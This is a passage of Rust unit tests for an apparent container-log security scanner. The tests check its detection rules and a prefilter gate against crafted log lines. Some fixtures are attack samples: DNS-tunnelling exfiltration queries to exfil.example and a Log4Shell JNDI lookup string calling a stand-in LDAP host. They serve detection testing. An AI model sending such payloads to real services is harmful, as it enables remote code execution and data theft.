                vec![envoy("200", "-", "via_upstream")],
            ),
            ("LOG-005", dns(50, "NXDOMAIN"), dns(50, "NOERROR")),
            (
                "LOG-006",
                query(&format!("{}.exfil.example.", "a".repeat(48))),
                query("api.shop.svc.cluster.local."),
            ),
            (
                "LOG-007",
                query("4a6f686e20446f65206b6e6f77.t.exfil.example."),
                query(
                    "opentelemetrycollectorheadless.kube-state-metrics-7d9f8b6c5-x2x9z.svc.cluster.local.",
                ),
            ),
            (
                "LOG-008",
                vec![r#"10.0.0.7 - - "GET /?q=${jndi:ldap://198.51.100.7/a} HTTP/1.1" 200"#.into()],
                vec![r#"10.0.0.7 - - "GET /?q=jndi HTTP/1.1" 200"#.into()],
            ),
        ];
        cases.into()
    }

    /// The gate may only skip lines no rule could fire on.
    #[test]
    fn the_message_gate_passes_every_line_a_container_rule_fires_on() {
        let scanner = Scanner::new(&[]).unwrap();
        let gate = scanner
            .container_gate()
            .expect("the built-in rules have one");
        for (rule, fires, _) in container_cases() {
            for line in &fires {
                assert!(gate.admits(line), "{rule}: the gate stops {line}");
            }
        }
        let long_words = format!("level=info msg=\"{}\"", "x".repeat(60));
        for quiet in ["GET /healthz 200 1ms", "starting worker 3", "", &long_words] {
            assert!(!gate.admits(quiet), "{quiet}");
        }
        let keywords = "- rule: k\n  id: K-1\n  source: container_log\n  match:\n    message|contains: [secret, token]\n  priority: low\n  output: x\n";
        let scanner = Scanner::new(&[("k.yaml", keywords)]).unwrap();
        let gate = scanner.container_gate().unwrap();
        assert!(gate.admits("leaked a token here") && !gate.admits("GET /healthz 200"));
        // A rule the message does not decide opens the gate for good.
        let by_pod = keywords.replace("message|contains: [secret, token]", "source.pod: web-1");
        let scanner = Scanner::new(&[("p.yaml", &by_pod)]).unwrap();
        assert!(scanner.container_gate().is_none());
    }

    /// The block search drops anchors and word boundaries to find
    /// candidate lines; what fires is still decided per message, exactly
    /// as without any gate.
    #[test]
    fn anchored_and_bounded_rules_fire_the_same_through_the_block_search() {
        let rules = "- rule: anchored\n  id: A-1\n  source: container_log\n  match:\n    message|re: \"^token$|\\\\bé\\\\b\"\n  priority: low\n  output: x\n";
        let scan = |gated: bool| {
            let scanner = Scanner::new(&[("a.yaml", rules)]).unwrap();
            assert!(scanner.container_gate().unwrap().prefilter().is_some());
            let mut scanner = if gated { scanner } else { scanner.ungated() };
            let text: String = [
                "token",
                "a token",
                "token b",
                "x é y",
                "xé y",
                "GET / 403 1ms",
                "403x",
            ]
            .iter()
            .map(|m| format!("2026-11-30T10:00:00Z stdout F {m}\n"))
            .collect();
            let mut fired = Vec::new();
            scanner.container(text.as_bytes(), &Arc::from("0.log"), None, &mut |a| {
                fired.push((a.rule.to_string(), a.evidence.records[0].record))
            });
            fired
        };
        let expected: Vec<(String, u64)> = vec![("A-1".into(), 1), ("A-1".into(), 4)];
        assert_eq!(scan(false), expected);
        assert_eq!(scan(true), expected);
    }

    /// Many logs pieced together from fragments of what the rules look
    /// for (cased and cut differently, in CRI, partial and JSON lines):
    /// the gated scan, block search and all, raises exactly the alerts of
    /// the ungated one. The fuzz target `scan_gates` does the same on any
    /// bytes.
    #[test]
    fn gated_scans_equal_ungated_ones_on_pieced_logs() {
        let keywords = "- rule: k\n  id: K-1\n  source: container_log\n  match:\n    message|contains: [s3cret, tok]\n  priority: low\n  output: x\n";
        let fragments = [
            "connection refused",
            "CONNECTION Refused",
            "connec",
            "tion refused",
            "403",
            " 403 ",
            "x403",
            "40",
            "3 ",
            "Forbidden",
            "permi\u{17f}sion denied",
            "\u{212a}",
            "[INFO] ",
            "10.244.0.11:46853 - 7 \"A IN a.example. udp 82 false 512\" NXDOMAIN qr 1 0.1s",
            "[2025-07-22T17:55:52.085Z] \"GET / HTTP/1.1\" 403 - rbac_access_denied_matched_policy[none] - \"-\" 0 19 0 - \"-\" \"c\" \"i\" \"h\" \"-\" x - a b - d",
            "s3cret",
            "tok",
            "en",
            "\r",
            "é",
            " ",
            "ok",
            "[",
            "]",
            "{\"log\":\"",
        ];
        let mut seed = 0x2545_f491_4f6c_dd1du64;
        let mut next = |n: usize| {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            (seed % n as u64) as usize
        };
        for round in 0..40 {
            let mut text = String::new();
            for i in 0..200 {
                let message: String = (0..1 + next(5))
                    .map(|_| fragments[next(fragments.len())])
                    .collect();
                match next(10) {
                    0 => text.push_str(&format!(
                        "{{\"log\":{:?},\"stream\":\"stdout\"}}\n",
                        message + "\n"
                    )),
                    1 => text.push_str(&format!(
                        "2026-11-30T10:00:{:02}Z stdout P {message}\n",
                        i % 60
                    )),
                    _ => text.push_str(&format!(
                        "2026-11-30T10:00:{:02}Z stdout F {message}\n",
                        i % 60
                    )),
                }
            }
            let alerts = |gated: bool| {
                let scanner = Scanner::new(&[("k.yaml", keywords)]).unwrap();
                let mut scanner = if gated { scanner } else { scanner.ungated() };
                let mut out = Vec::new();
                scanner.container(
                    text.as_bytes(),
                    &Arc::from("0.log"),
                    Some(&web_1()),
                    &mut |a| out.push(format!("{a:?}")),
                );
                out
            };
            let ungated = alerts(false);
            assert_eq!(alerts(true), ungated, "round {round}:\n{text}");
            assert!(
                round > 0 || !ungated.is_empty(),
                "the rules fire on these logs"
            );
        }
    }

    #[test]
    fn every_built_in_container_rule_fires_on_its_lines_and_not_on_their_neighbours() {
        let cases = container_cases();
        every_rule_has_a_case("container_log", cases.iter().map(|c| c.0));
        for (rule, fires, quiet) in cases {
            let fired = |lines: &[String]| container_rules(lines).iter().any(|r| r == rule);
            assert!(fired(&fires), "{rule} should fire on {fires:?}");
            assert!(!fired(&quiet), "{rule} should not fire on {quiet:?}");
        }
    }

    #[test]
    fn container_log_rules_fire_on_bursts_and_proxies() {
        let mut scanner = Scanner::new(&[]).unwrap();
        let source = web_1();
        let mut text = String::new();
        for i in 0..25 {
            text.push_str(&format!("2026-11-30T10:00:{i:02}Z stdout F dial tcp 10.0.0.9:5432: connect: connection refused\n"));
        }
        text.push_str("2026-11-30T10:01:00Z stdout F [2025-07-22T17:55:52.085Z] \"GET / HTTP/1.1\" 403 - rbac_access_denied_matched_policy[none] - \"-\" 0 19 0 - \"10.244.1.1\" \"curl/8.14.1\" \"id\" \"172.18.10.10\" \"-\" inbound|80|| - 10.244.1.9:80 10.244.1.1:0 x default\n");
        let mut alerts = Vec::new();
        scanner.container(
            text.as_bytes(),
            &Arc::from("0.log"),
            Some(&source),
            &mut |a| alerts.push(a),
        );
        let rules: Vec<&str> = alerts.iter().map(|a| a.rule.as_ref()).collect();
        assert_eq!(rules, ["LOG-001", "LOG-003"]);
        assert_eq!(alerts[0].src.pod.as_deref(), Some("web-1"));
    }
}
